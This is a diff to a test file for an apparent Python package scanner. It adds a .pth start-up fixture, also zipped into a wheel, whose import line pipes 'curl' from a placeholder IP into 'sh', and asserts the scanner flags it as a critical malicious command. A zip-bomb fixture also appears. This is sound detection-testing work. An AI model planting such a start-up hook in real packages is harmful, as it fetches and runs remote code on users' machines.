@@ -49,6 +49,10 @@ before(async () => {
   // a zip bomb: one 50 MB entry of zeros compresses to ~50 KB
   w('pkgs/bomb.zip', zipSync({ 'bomb.py': new Uint8Array(50 * 1024 * 1024) }, { level: 9 }));
   w('pkgs/garbage.tar.gz', Buffer.from('not really gzip'));
+  // .pth start-up files: site.py runs their `import` lines at every interpreter start; other lines are paths
+  const pth = '# a comment\n/opt/extra/lib\nimport os; os.system("curl -s http://203.0.113.9/x | sh")\nos.system("never run: not an import line")\n';
+  w('startup/zzz_hook.pth', pth);
+  w('startup/hook-1.0-py3-none-any.whl', zipSync({ 'zzz_hook.pth': new TextEncoder().encode(pth) }));
 });
 
 after(() => rmSync(dir, { recursive: true, force: true }));
@@ -90,6 +94,17 @@ test('wheels and sdists are read in memory; hostile entry names are only display
   assert.ok(files.some((f) => f.endsWith('.tar.gz!/evil-1.0/setup.py')));
   assert.ok(result.findings.some((f) => f.ruleId === 'setup-install-hook'));
   assert.ok(!existsSync(path.join(dir, '..', 'escape.py')) && !existsSync('/etc/abs.py'), 'nothing was written');
+});
+
+test('.pth start-up files: their import lines are scanned as code at their own line, other lines are not', async () => {
+  const result = await scanPaths(['startup'], { cwd: dir, cache: false });
+  for (const file of [path.join('startup', 'zzz_hook.pth'), `${path.join('startup', 'hook-1.0-py3-none-any.whl')}!/zzz_hook.pth`]) {
+    const found = result.findings.filter((f) => f.file === file);
+    assert.ok(found.some((f) => f.ruleId === 'malicious-command' && f.line === 3 && f.severity === 'critical'), `${file}: ${found.map((f) => `${f.line} ${f.ruleId}`).join(', ')}`);
+    assert.ok(found.some((f) => f.ruleId === 'import-time-process' && f.severity === 'high'));
+    assert.ok(found.every((f) => f.line === 3), 'path and comment lines are not code');
+  }
+  assert.deepEqual(result.errors, []);
 });
 
 test('a zip bomb stops at the cap, garbage archives are skipped, nothing crashes', async () => {
